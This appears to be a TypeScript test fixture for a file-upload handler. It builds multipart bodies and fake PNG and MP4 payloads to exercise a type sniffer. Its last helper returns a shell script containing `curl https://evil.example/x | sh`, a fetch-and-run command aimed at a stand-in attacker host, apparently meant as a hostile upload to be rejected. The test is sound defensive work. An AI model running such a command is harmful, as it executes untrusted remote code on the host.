import { randomBytes } from 'node:crypto';

export interface Upload {
  field?: string;
  filename: string;
  type: string;
  bytes: Buffer;
}

/** A multipart/form-data body, written by hand so the test controls names and declared types. */
export const multipart = (files: Upload[]) => {
  const boundary = `----bp${randomBytes(8).toString('hex')}`;
  const parts = files.map((f) =>
    Buffer.concat([
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${f.field ?? 'file'}"; filename="${f.filename}"\r\nContent-Type: ${f.type}\r\n\r\n`),
      f.bytes,
      Buffer.from('\r\n'),
    ]),
  );
  return { body: Buffer.concat([...parts, Buffer.from(`--${boundary}--\r\n`)]), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
};

const PNG_SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];

/** Bytes the sniffer takes for a PNG (signature + filler), `size` long. */
export const png = (size = 1024): Buffer => {
  const b = randomBytes(size);
  Buffer.from(PNG_SIGNATURE).copy(b);
  return b;
};

/** An ISO-BMFF (mp4) header: box size, then `ftyp`. */
export const mp4 = (size = 4096): Buffer => {
  const b = randomBytes(size);
  Buffer.from([0, 0, 0, 0x18, 0x66, 0x74, 0x79, 0x70, 0x69, 0x73, 0x6f, 0x6d]).copy(b);
  return b;
};

export const script = (): Buffer => Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n');
